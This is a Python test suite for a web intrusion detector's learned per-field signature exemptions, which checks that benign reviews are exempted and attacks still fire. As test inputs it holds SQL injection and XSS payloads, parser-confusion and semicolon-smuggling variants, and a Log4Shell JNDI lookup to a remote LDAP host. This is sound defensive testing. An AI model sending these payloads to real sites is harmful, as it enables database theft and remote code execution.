"""Per-field exemptions of web signatures: learned from answered requests, never global."""

from __future__ import annotations

import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from shopwatch.config import Settings, load_settings
from shopwatch.contract import conform
from shopwatch.detect.content import load_detectors
from shopwatch.detect.exemptions import (
    EXEMPT_STATE,
    Exemption,
    ExemptionRules,
    fields_of,
    masked,
)
from shopwatch.pipeline.build import build_engine
from shopwatch.pipeline.engine import Engine
from shopwatch.pipeline.merge import expand_matches
from shopwatch.pipeline.service import CHECKPOINT
from shopwatch.store import Store

T0 = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)
WEB = [d for d in load_detectors().detectors if d.id.startswith(("web.", "sigma."))]
# Matches web.sqli_probe (a quote, then "--") and libinjection (a string, then a comment).
FOREST = "Colour is 'forest' -- darker than the photos but nice."
# Matches web.sqli_probe only (select .. from .. where).
SQL_BOOK = "Learning SQL: select from where, joins and more. Great book."


def _ids() -> Iterator[int]:
    n = 0
    while True:
        n += 1
        yield n


_SEQ = _ids()


def request(
    ip: str, target: str, body: dict[str, Any] | str | None = None, status: int = 201
) -> dict[str, Any]:
    n = next(_SEQ)
    row: dict[str, Any] = {
        "event.dataset": "http.access",
        "http.request.method": "POST" if body is not None else "GET",
        "http.response.status_code": status,
        "user_agent.original": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "@timestamp": T0 + timedelta(seconds=n),
        "event.id": f"e{n}",
        "source.ip": ip,
        "url.original": target,
        "url.path": target.partition("?")[0],
    }
    if body is not None:
        row["http.request.body.content"] = body if isinstance(body, str) else json.dumps(body)
    return row


def review(ip: str, text: str, **extra: Any) -> dict[str, Any]:
    return request(ip, "/api/reviews", {"product": "15914", "rating": 4, "text": text, **extra})


def networks(n: int, first: int = 0) -> list[str]:
    """``n`` addresses in ``n`` different /24 networks."""
    return [f"84.{150 + (first + i) // 200}.{(first + i) % 200}.61" for i in range(n)]


def fired(engine: Engine, *rows: dict[str, Any]) -> dict[str, set[str]]:
    """event id -> every rule that matched it (folded matches counted for each rule)."""
    alerts = engine.process(conform(pl.from_dicts(list(rows), infer_schema_length=None)))
    out: dict[str, set[str]] = {}
    for row in expand_matches(alerts).iter_rows(named=True):
        for event in row["event.ids"]:
            out.setdefault(event, set()).add(row["rule.id"])
    return out


def rules_of(found: dict[str, set[str]]) -> set[str]:
    return set().union(*found.values()) if found else set()


def taught(**options: Any) -> Engine:
    """An engine that has seen 12 networks post each of the two benign reviews."""
    engine = Engine(WEB, exemptions=ExemptionRules(**options))
    rows = [review(ip, FOREST) for ip in networks(12)] + [
        review(ip, SQL_BOOK) for ip in networks(12, first=20)
    ]
    first = fired(engine, *rows)
    # While learning, the look-alike is what a fresh install alerts on.
    assert {"web.sqli_probe", "web.injection_tokenizer"} <= rules_of(first)
    return engine


def test_a_field_many_customers_write_in_is_exempt_from_each_rule_it_trips() -> None:
    engine = taught()
    later = fired(engine, *[review(ip, t) for ip in networks(5, 40) for t in (FOREST, SQL_BOOK)])
    assert later == {}
    assert engine.stats.exempted["web.sqli_probe"] == 10
    assert engine.stats.exempted["web.injection_tokenizer"] == 5
    listed = engine.exemptions.listing(engine.states[EXEMPT_STATE])  # type: ignore[union-attr]
    exempt = listed.filter(pl.col("exempt"))
    assert set(exempt.select("rule", "endpoint", "field").rows()) == {
        ("web.sqli_probe", "/api/reviews", "body:text"),
        ("web.injection_tokenizer", "/api/reviews", "body:text"),
    }


def test_the_same_text_elsewhere_still_fires() -> None:
    engine = taught()
    found = fired(
        engine,
        # another field of the same endpoint
        review("203.0.113.5", "fine", title=FOREST),
        # the same field name on another endpoint
        request("203.0.113.6", "/api/contact", {"text": FOREST}),
        # in the query instead of the body
        request("203.0.113.7", "/api/reviews?text=" + FOREST.replace(" ", "+"), {"text": "ok"}),
    )
    assert len(found) == 3
    assert all("web.sqli_probe" in rules for rules in found.values())


def test_a_payload_in_an_exempt_field_and_another_field_still_fires() -> None:
    engine = taught()
    found = fired(engine, review("203.0.113.8", FOREST, name="x' or 1=1 --"))
    assert "web.sqli_probe" in rules_of(found)


def test_an_exemption_is_per_rule_another_signature_still_reads_the_field() -> None:
    engine = taught()
    found = fired(engine, review("203.0.113.9", "<script>alert(document.cookie)</script>"))
    rules = rules_of(found)
    assert "web.xss_probe" in rules  # not learned on this field
    assert "web.sqli_probe" not in rules


def test_one_network_probing_a_field_never_makes_it_exempt() -> None:
    engine = Engine(WEB, exemptions=ExemptionRules())
    for _ in range(3):  # 3 batches of 10 payloads from one network, all answered
        fired(engine, *[review(f"198.51.100.{i}", SQL_BOOK) for i in range(10)])
    found = fired(engine, review("84.1.2.3", SQL_BOOK))
    assert "web.sqli_probe" in rules_of(found)
    listed = engine.exemptions.listing(engine.states[EXEMPT_STATE])  # type: ignore[union-attr]
    row = listed.filter(pl.col("rule") == "web.sqli_probe").row(0, named=True)
    assert (row["networks"], row["probers"], row["exempt"]) == (1, 1, False)  # 84.1.2.0/24 once


def test_networks_that_each_probe_too_often_do_not_count() -> None:
    engine = Engine(WEB, exemptions=ExemptionRules(max_hits_per_source=3))
    for _ in range(4):
        fired(engine, *[review(ip, SQL_BOOK) for ip in networks(12)])
    assert "web.sqli_probe" in rules_of(fired(engine, review("84.1.2.3", SQL_BOOK)))


def test_fewer_networks_than_min_sources_teach_nothing_yet() -> None:
    engine = Engine(WEB, exemptions=ExemptionRules(min_sources=10))
    fired(engine, *[review(ip, SQL_BOOK) for ip in networks(9)])
    assert "web.sqli_probe" in rules_of(fired(engine, review("84.1.2.3", SQL_BOOK)))
    fired(engine, review(networks(1, 100)[0], SQL_BOOK))  # the tenth network
    assert "web.sqli_probe" not in rules_of(fired(engine, review("84.1.2.4", SQL_BOOK)))


def test_refused_requests_teach_nothing() -> None:
    engine = Engine(WEB, exemptions=ExemptionRules())
    fired(
        engine,
        *[request(ip, "/api/reviews", {"text": SQL_BOOK}, status=403) for ip in networks(12)],
    )
    assert "web.sqli_probe" in rules_of(fired(engine, review("84.1.2.3", SQL_BOOK)))


def test_a_match_that_needs_two_fields_teaches_nothing() -> None:
    engine = Engine(WEB, exemptions=ExemptionRules())
    spread = "/search?a=select+x&b=from+y&c=where+z"  # select .. from .. where, over 3 fields
    fired(engine, *[request(ip, spread, status=200) for ip in networks(12)])
    assert "web.sqli_probe" in rules_of(fired(engine, request("84.1.2.3", spread, status=200)))


def test_a_path_is_never_learned_but_can_be_written() -> None:
    post = "/blog/how-to-select-a-tent-from-our-range-where-it-rains"
    engine = Engine(WEB, exemptions=ExemptionRules())
    fired(engine, *[request(ip, post, status=200) for ip in networks(12)])
    assert "web.sqli_probe" in rules_of(fired(engine, request("84.1.2.3", post, status=200)))
    written = Engine(WEB, exemptions=ExemptionRules(fixed=(Exemption(post, "path"),)))
    assert fired(written, request("84.1.2.3", post, status=200)) == {}
    attack = post + "?ref=1%27+union+select+password+from+users--"
    assert "web.sqli_probe" in rules_of(fired(written, request("84.1.2.4", attack, status=200)))


def test_written_exemptions_apply_from_the_start_and_a_sigma_uuid_names_its_rule() -> None:
    settings = Settings.model_validate(
        {
            "detect": {
                "exemptions": {
                    "learn": False,
                    "fixed": [
                        {
                            "endpoint": "/api/reviews",
                            "field": "body:text",
                            "rules": ["web.sqli_probe"],
                        },
                        # Sigma "Cross Site Scripting Strings", by its UUID
                        {
                            "endpoint": "/api/reviews",
                            "field": "body:text",
                            "rules": ["65354b83-a2ea-4ea6-8414-3ab38be0d409"],
                        },
                    ],
                }
            }
        }
    )
    engine = build_engine(settings)
    assert fired(engine, review("84.1.2.3", SQL_BOOK)) == {}
    xss = rules_of(fired(engine, review("84.1.2.4", "<script>alert(1)</script>")))
    assert "web.xss_probe" in xss
    assert "sigma.65354b83_a2ea_4ea6_8414_3ab38be0d409" not in xss
    # learn: false — many networks teach nothing
    fired(engine, *[review(ip, FOREST) for ip in networks(12)])
    assert "web.injection_tokenizer" in rules_of(fired(engine, review("84.1.2.5", FOREST)))


def test_switched_off_there_are_none() -> None:
    settings = Settings.model_validate({"detect": {"exemptions": {"enabled": False}}})
    engine = build_engine(settings)
    assert engine.exemptions is None
    assert EXEMPT_STATE not in engine.states


def test_exemptions_survive_a_restart() -> None:
    engine = taught()
    restored = Engine(WEB, exemptions=ExemptionRules())
    restored.restore(engine.snapshot())
    assert fired(restored, review("84.1.2.3", SQL_BOOK)) == {}
    assert restored.stats.exempted["web.sqli_probe"] >= 1


def test_an_exemption_that_cannot_be_judged_lets_the_rule_fire() -> None:
    engine = taught()
    # A state table of the wrong shape (a bad restore, a bug): the exemptions fail ...
    engine.states[EXEMPT_STATE].put("hits", pl.DataFrame({"_key": [1]}))
    found = fired(engine, review("84.1.2.3", SQL_BOOK))
    # ... and the rule reads the request as if there were none.
    assert "web.sqli_probe" in rules_of(found)


def test_fields_and_masking_of_bodies() -> None:
    body = json.dumps({"order": {"note": "x'; drop table", "lines": [{"note": "b"}]}, "n": 3})
    assert fields_of("/api/orders/17/notes", body) == [
        "path",
        "body:order.note",
        "body:order.lines[].note",
    ]
    target, blanked = masked("/api/orders/17/notes", body, ["body:order.note"])
    assert target == "/api/orders/17/notes"
    assert json.loads(blanked or "") == {"order": {"note": "", "lines": [{"note": "b"}]}, "n": 3}
    form = "name=Ann&comment=it%27s+%27grand%27+--+ok"
    assert fields_of("/contact", form) == ["path", "body:name", "body:comment"]
    assert masked("/contact", form, ["body:comment"]) == ("/contact", "name=Ann&comment=")
    # a name written encoded is the same field
    assert masked("/s?%71=1%27&p=2", None, ["query:q"]) == ("/s?%71=&p=2", None)


def learned_on_text() -> Engine:
    """An engine for which body:text of /api/reviews is exempt from web.sqli_probe (and
    the tokenizer, and the Sigma SQL strings rule)."""
    engine = Engine(WEB, exemptions=ExemptionRules())
    fired(engine, *[review(ip, FOREST) for ip in networks(12)])
    fired(engine, *[review(ip, SQL_BOOK) for ip in networks(12, 20)])
    assert fired(engine, review("84.1.2.3", FOREST), review("84.1.2.4", SQL_BOOK)) == {}
    return engine


@pytest.mark.parametrize(
    ("variant", "body"),
    [
        # read as a form by an application that ignores the JSON type: id=1' or 1=1--
        ("form-inside-json", '{"text":"&id=1%27+or+1%3D1--"}'),
        # the first of two keys is what some parsers keep
        ("duplicate-key", '{"text":"ok","product":"1\' or 1=1 --","product":"15914"}'),
        # the same key name, another level
        (
            "nested-same-name",
            '{"text":"ok","product":{"text":"1\' union select password from users--"}}',
        ),
    ],
)
def test_a_body_that_reads_two_ways_is_never_exempt(variant: str, body: str) -> None:
    engine = learned_on_text()
    found = fired(engine, request("203.0.113.20", "/api/reviews", body))
    assert "web.sqli_probe" in rules_of(found), variant


def test_a_value_with_a_semicolon_is_not_blanked_some_servers_split_on_it() -> None:
    engine = Engine(WEB, exemptions=ExemptionRules())
    text = "Learning+SQL%3A+select+from+where"
    fired(engine, *[request(ip, f"/search?q={text}", status=200) for ip in networks(12)])
    assert fired(engine, request("84.1.2.3", f"/search?q={text}", status=200)) == {}
    smuggled = "/search?q=shoes;id=1%27+union+select+1,2+from+users+where+1--"
    assert "web.sqli_probe" in rules_of(fired(engine, request("84.1.2.4", smuggled, status=200)))


@pytest.mark.parametrize(
    ("variant", "target", "status"),
    [
        # a redirect answers anything: the http-to-https server, a login wall
        ("redirect", "/search?q=Learning+SQL%3A+select+from+where", 301),
        # a probe for one flaw is answered by many servers: not a rule that learns
        ("cve-probe", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D", 200),
        # an open-proxy probe is a scanner rule: scanners never learn
        ("proxy-probe", "http://azenv.net/", 200),
    ],
)
def test_routine_internet_probes_teach_nothing(variant: str, target: str, status: int) -> None:
    engine = Engine(WEB, exemptions=ExemptionRules())
    first = rules_of(fired(engine, *[request(ip, target, status=status) for ip in networks(12)]))
    assert first, variant
    again = rules_of(fired(engine, request("84.1.2.3", target, status=status)))
    assert again == first, variant


def test_with_every_rule_learning_redirects_and_scanners_still_teach_nothing() -> None:
    for target, status in (
        ("/search?q=Learning+SQL%3A+select+from+where", 302),
        ("http://azenv.net/", 200),
    ):
        engine = Engine(WEB, exemptions=ExemptionRules(learn_rules=None))
        first = rules_of(
            fired(engine, *[request(ip, target, status=status) for ip in networks(12)])
        )
        assert (
            first and rules_of(fired(engine, request("84.1.2.3", target, status=status))) == first
        )


def test_only_the_rules_that_learn_learn() -> None:
    engine = Engine(WEB, exemptions=ExemptionRules(learn_rules=frozenset({"web.xss_probe"})))
    fired(engine, *[review(ip, SQL_BOOK) for ip in networks(12)])
    assert "web.sqli_probe" in rules_of(fired(engine, review("84.1.2.3", SQL_BOOK)))


def test_learn_false_and_never_stop_what_was_learned() -> None:
    engine = learned_on_text()
    frozen = Engine(WEB, exemptions=ExemptionRules(learn=False))
    frozen.restore(engine.snapshot())
    assert "web.sqli_probe" in rules_of(fired(frozen, review("84.1.2.5", SQL_BOOK)))
    revoked = Engine(
        WEB,
        exemptions=ExemptionRules(
            never=(Exemption("/api/reviews", "body:text", frozenset({"web.sqli_probe"})),)
        ),
    )
    revoked.restore(engine.snapshot())
    assert "web.sqli_probe" in rules_of(fired(revoked, review("84.1.2.6", SQL_BOOK)))
    # what was not revoked still holds
    assert "web.injection_tokenizer" not in rules_of(fired(revoked, review("84.1.2.7", FOREST)))


@pytest.mark.parametrize(
    ("variant", "addresses"),
    [
        ("ports", [f"198.51.100.7:{40000 + i}" for i in range(12)]),
        ("bracketed-v6-ports", [f"[2001:db8::{i + 1}]:443" for i in range(12)]),
        ("v4-mapped", [f"::ffff:198.51.100.{i}" for i in range(12)]),
        ("not-addresses", [f"host-{i}.example" for i in range(12)]),
    ],
)
def test_one_network_written_many_ways_is_one_network(variant: str, addresses: list[str]) -> None:
    engine = Engine(WEB, exemptions=ExemptionRules())
    fired(engine, *[review(a, SQL_BOOK) for a in addresses])
    assert "web.sqli_probe" in rules_of(fired(engine, review("84.1.2.3", SQL_BOOK))), variant


def test_a_written_endpoint_is_read_as_a_template() -> None:
    engine = Engine(
        WEB, exemptions=ExemptionRules(fixed=(Exemption("/api/orders/17/notes", "body:note"),))
    )
    note = {"note": SQL_BOOK}
    assert fired(engine, request("84.1.2.3", "/api/orders/90210/notes", note)) == {}


def test_an_odd_request_costs_its_own_exemption_not_the_batch() -> None:
    engine = Engine(WEB, exemptions=ExemptionRules())
    odd = review("84.9.9.9", SQL_BOOK)
    odd["http.request.body.content"] = odd["http.request.body.content"][:-1] + ', "x": "\\ud800"}'
    fired(engine, odd, *[review(ip, SQL_BOOK) for ip in networks(12)])
    assert fired(engine, review("84.1.2.3", SQL_BOOK)) == {}


def test_long_names_are_not_learned() -> None:
    engine = Engine(WEB, exemptions=ExemptionRules())
    name = "t" * 300
    target = f"/search?{name}=Learning+SQL%3A+select+from+where"
    fired(engine, *[request(ip, target, status=200) for ip in networks(12)])
    assert "web.sqli_probe" in rules_of(fired(engine, request("84.1.2.3", target, status=200)))
    assert engine.exemptions is not None
    assert engine.exemptions.listing(engine.states[EXEMPT_STATE]).height == 0


def test_a_form_body_that_backtracks_is_read_in_linear_time() -> None:
    # ten fields and a space: the form pattern once took minutes on this (no timed bound
    # here beyond not hanging the suite: the thread must finish)
    body = "&".join(f"f{i}=v{i}" for i in range(400)) + " "
    done = threading.Event()

    def read() -> None:
        fields_of("/contact", body)
        done.set()

    thread = threading.Thread(target=read, daemon=True)
    thread.start()
    assert done.wait(30)


def test_rules_exemptions_lists_written_learned_and_revoked(tmp_path: Path) -> None:
    config = tmp_path / "shopwatch.yml"
    config.write_text(
        f"data_dir: {tmp_path / 'data'}\n"
        "detect:\n  exemptions:\n"
        "    fixed: [{endpoint: /api/contact, field: 'body:message', rules: [web.xss_probe]}]\n"
        "    never: [{endpoint: /api/reviews, field: 'body:text', rules: [web.injection_tokenizer]}]\n"
    )
    settings = load_settings(config)
    engine = build_engine(settings)
    fired(engine, *[review(ip, FOREST) for ip in networks(12)])
    with Store.open(settings.store_url) as store:
        store.save_checkpoint(CHECKPOINT, engine.snapshot())
    out = tmp_path / "exemptions.json"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "shopwatch",
            "rules",
            "exemptions",
            "-c",
            str(config),
            "--json",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    rows = {(r["rule"], r["endpoint"], r["field"]): r for r in json.loads(out.read_text())}
    assert rows[("web.xss_probe", "/api/contact", "body:message")]["how"] == "written"
    learned = rows[("web.sqli_probe", "/api/reviews", "body:text")]
    assert (learned["how"], learned["exempt"], learned["networks"]) == ("learned", True, 12)
    revoked = rows[("web.injection_tokenizer", "/api/reviews", "body:text")]
    assert (revoked["how"], revoked["exempt"]) == ("revoked", False)
    assert "exemptions" in done.stdout


def test_rules_exemptions_on_a_fresh_install_says_nothing_is_learned_yet(tmp_path: Path) -> None:
    config = tmp_path / "shopwatch.yml"
    config.write_text(f"data_dir: {tmp_path / 'data'}\n")
    done = subprocess.run(
        [sys.executable, "-m", "shopwatch", "rules", "exemptions", "-c", str(config)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    assert "0 exemptions (learned ones from no saved state yet" in " ".join(done.stdout.split())


def test_a_field_many_customers_write_in_keeps_a_bounded_number_of_networks() -> None:
    engine = Engine(WEB, exemptions=ExemptionRules(min_sources=10))
    for start in range(0, 120, 30):
        fired(engine, *[review(ip, SQL_BOOK) for ip in networks(30, start)])
    hits = engine.states[EXEMPT_STATE].table("hits", {})
    per_key = hits.group_by("_key").len()["len"].to_list()
    assert per_key and max(per_key) <= 40  # 4 x min_sources, the newest
    assert fired(engine, review("84.1.2.3", SQL_BOOK)) == {}  # still exempt
